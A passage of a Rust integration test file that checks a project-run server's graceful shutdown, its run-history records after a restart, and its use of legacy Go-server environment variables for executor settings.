            .unwrap();
    let leader = info["pid"].as_i64().unwrap();

    let status = std::process::Command::new("kill")
        .arg("-TERM")
        .arg(server.pid().to_string())
        .status()
        .unwrap();
    assert!(status.success());
    let exited = tokio::time::timeout(Duration::from_secs(20), server.child.wait()).await;
    assert!(exited.is_ok(), "the server did not stop within 20 s");
    assert!(
        !pid_alive(leader) && !pid_alive(gc),
        "a run's process outlived the server"
    );

    let restarted = start_in(reopen(&path, &mut server), &[]).await;
    let mut b = client(&restarted, "alpha").await;
    let got = call(&mut b, 1, "projects/get", json!({"project": "alpha"})).await;
    assert_eq!(got["status"], "idle");
    let history = call(
        &mut b,
        2,
        "projects/history",
        json!({"project": "alpha", "limit": 1000}),
    )
    .await;
    let completes: Vec<&Value> = history["entries"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["kind"] == "run.complete" && e["payload"]["runId"] == run.as_str())
        .collect();
    assert_eq!(completes.len(), 1, "{completes:?}");
    assert_eq!(completes[0]["payload"]["reason"], "server shutting down");
    assert_eq!(completes[0]["payload"]["aborted"], true);
}

#[tokio::test]
async fn the_go_servers_variable_names_configure_the_executor() {
    // No CODEFLOW_* executor settings: only the original Go server's names.
    let mock = mock_claude();
    let server = Server::start_with(
        &[],
        &[
            ("CLAUDE_CMD", mock.as_str()),
            ("MAX_PROJECTS", "1"),
            ("EXEC_TIMEOUT", "1s"),
        ],
    )
    .await;
    let mut a = client(&server, "alpha").await;
    call(&mut a, 1, "projects/create", json!({"id": "alpha"})).await;
    let e = call_err(&mut a, 2, "projects/create", json!({"id": "beta"})).await;
    assert_eq!(e["code"], -32004, "MAX_PROJECTS=1: {e}");
    call(&mut a, 3, "projects/join", json!({})).await;
    let run = start_run(
        &mut a,
        4,
        json!({"project": "alpha", "prompt": "mock:hang"}),
    )
    .await;
    let events = events_until_complete(&mut a, &run).await;
    let complete = &events.last().unwrap()["data"];
    assert_eq!(
        complete["reason"], "timed out after 1 s",
        "EXEC_TIMEOUT=1s, CLAUDE_CMD ran: {complete}"
    );
}
